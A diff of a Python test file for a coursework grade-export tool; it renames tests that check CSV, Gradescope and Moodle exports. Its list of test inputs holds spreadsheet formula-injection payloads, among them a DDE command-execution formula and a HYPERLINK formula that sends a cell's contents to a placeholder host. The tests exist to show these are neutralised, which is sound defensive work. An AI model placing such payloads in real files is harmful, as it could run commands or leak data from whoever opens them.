@@ -1,4 +1,4 @@
-"""Marks arrive where they are taken, no cell of a table acts, and nobody is dropped in silence."""
+"""Exports: no cell of a table is a formula, and every student who is left out is named."""
 
 import json
 import stat
@@ -15,7 +15,7 @@ from softlookup_coursework.exports import FORMATS, Unfit, returned, write
 from softlookup_coursework.exports.table import escape_formula, read, save
 
 SCHEMA = Path(__file__).parent / "gradescope_results.schema.json"
-# What a spreadsheet would run, or would take for a cell of its own.
+# What a spreadsheet would treat as a formula, or as a cell of its own.
 FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1x",
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://afar.invalid?"&A1,"x")', "a;=1+1", "a;  @b", "a\n=1",
@@ -32,7 +32,7 @@ def test_a_formula_becomes_text(text):
 
 
 @pytest.mark.parametrize("text", ["", "Ada", "a=b", "12", "-3", "+4.5", "0,5", "x-y", "a, -3"])
-def test_what_is_none_stays_as_it_is(text):
+def test_other_text_is_unchanged(text):
     assert escape_formula(text) == text
 
 
@@ -43,7 +43,7 @@ def test_numbers_stay_numbers(value, text):
     assert escape_formula(value) == text
 
 
-def test_what_is_written_is_read_as_it_was(tmp_path):
+def test_a_table_round_trips(tmp_path):
     rows = [["a", "b"], ['x"y', "1,2"], ["two\nlines", "🧑‍🔬"], ["عمر", ""]]
     for separator in (",", ";", "\t"):
         path = save(tmp_path / "t.csv", rows, separator, mark=True)
@@ -58,7 +58,7 @@ def test_what_is_written_is_read_as_it_was(tmp_path):
     [(b"", "empty"), (b"\xff\xfe\x00", "UTF-8"), (b"a,\xe9", "UTF-8"), (b"a,b\n1,2,3\n", "cells"),
      (b'a,b\n"x', "no table"), (None, "cannot be read")],
 )  # fmt: skip
-def test_what_is_no_table_is_refused_with_what_to_do(tmp_path, content, says):
+def test_a_file_that_is_not_a_table_is_refused_with_what_to_do(tmp_path, content, says):
     path = tmp_path / "t.csv"
     if content is not None:
         path.write_bytes(content)
@@ -71,7 +71,7 @@ def test_utf_16_is_read(tmp_path):
     assert read(tmp_path / "t.csv").rows == [["1", "ä"]]
 
 
-def test_a_write_that_fails_leaves_the_old_file(tmp_path):
+def test_a_failed_write_leaves_the_old_file(tmp_path):
     path = save(tmp_path / "t.csv", [["old"]])
 
     def rows():
@@ -87,7 +87,7 @@ def test_a_write_that_fails_leaves_the_old_file(tmp_path):
 # ---------- Gradescope ----------
 
 
-def test_gradescope_gets_what_its_documentation_describes(handed_in):
+def test_the_file_for_gradescope_matches_its_documentation(handed_in):
     result = a_result(Verdict.TIMED_OUT, "\n".join(HOSTILE[:-1]), message="<b>wrong</b>")
     write_result(handed_in, "positions", "101", result)
     remarks = (Remark("essay", 4.5, "Well *put*."),)
@@ -98,27 +98,27 @@ def test_gradescope_gets_what_its_documentation_describes(handed_in):
     check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA)]
     checked = subprocess.run([*check, *files], capture_output=True, text=True)
     assert checked.returncode == 0, checked.stdout
-    told = json.loads(files[0].read_text())
-    assert told["score"] == 11.5 == sum(test["score"] for test in told["tests"])
-    assert sum(test["max_score"] for test in told["tests"]) == 18
-    passed, failed, by_hand = told["tests"]
+    stored = json.loads(files[0].read_text())
+    assert stored["score"] == 11.5 == sum(test["score"] for test in stored["tests"])
+    assert sum(test["max_score"] for test in stored["tests"]) == 18
+    passed, failed, by_hand = stored["tests"]
     assert (passed["status"], passed["visibility"]) == ("passed", "visible")
     assert (failed["status"], failed["visibility"]) == ("failed", "after_published")
     assert (failed["output"], failed["output_format"]) == ("<b>wrong</b>", "text")
     assert (by_hand["score"], by_hand["output"]) == (4.5, "Well *put*.")
-    assert {told[key] for key in told if key.endswith("_format")} == {"text"}
-    assert "\x1b" not in told["output"]
+    assert {stored[key] for key in stored if key.endswith("_format")} == {"text"}
+    assert "\x1b" not in stored["output"]
     assert [one.student for one in report.left if "waits" in one.why] == ["102"]
 
 
-def test_a_field_that_gradescope_does_not_know_would_be_found(tmp_path):
+def test_a_field_unknown_to_gradescope_would_be_found(tmp_path):
     path = tmp_path / "results.json"
     path.write_text('{"score": 1, "tests": [{"visible": true}]}')
     check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA), str(path)]
     assert subprocess.run(check, capture_output=True).returncode == 1
 
 
-# ---------- a plain table, and what all share ----------
+# ---------- a plain table, and what all formats share ----------
 
 
 def test_the_plain_table_has_a_column_for_each_cell_and_test(handed_in):
@@ -128,16 +128,16 @@ def test_the_plain_table_has_a_column_for_each_cell_and_test(handed_in):
     assert report.path.read_bytes().startswith(b"\xef\xbb\xbf")
     header, first, second, *others = cells(report.path)
     assert header[-4:] == ["rows", "rows: visible.rows_sum_to_one", "rows: hidden.slopes", "essay"]
-    told, waits = (dict(zip(header, row, strict=True)) for row in (first, second))
-    assert (told["earned"], told["by hand"], told["essay"]) == ("11.5", "4.5", "4.5")
-    assert (told["rows"], told["rows: hidden.slopes"]) == ("7", "0")
+    final, waits = (dict(zip(header, row, strict=True)) for row in (first, second))
+    assert (final["earned"], final["by hand"], final["essay"]) == ("11.5", "4.5", "4.5")
+    assert (final["rows"], final["rows: hidden.slopes"]) == ("7", "0")
     assert (waits["by hand"], waits["essay"]) == ("", "")
     assert not any(acts(cell) for row in others for cell in row if cell != "-")
     assert report.written == 9
 
 
 @pytest.mark.parametrize("form", FORMATS)
-def test_whoever_handed_in_and_has_no_mark_is_named(handed_in, form):
+def test_students_who_handed_in_and_have_no_mark_are_named(handed_in, form):
     report = write(form, handed_in, "positions", [mark("101")])
     missing = {one.student for one in report.left if "no mark in the gradebook" in one.why}
     assert missing == {"102", "ada", "late"}
@@ -157,7 +157,7 @@ def test_an_unknown_form_is_refused(handed_in):
 # ---------- the pages, for Moodle ----------
 
 
-def test_the_pages_are_packed_as_moodle_hands_them_on(handed_in):
+def test_the_pages_are_packed_in_moodles_layout(handed_in):
     for student in ("101", "102", "ada"):
         page = handed_in / "feedback" / student / "positions" / "positions.html"
         page.parent.mkdir(parents=True)
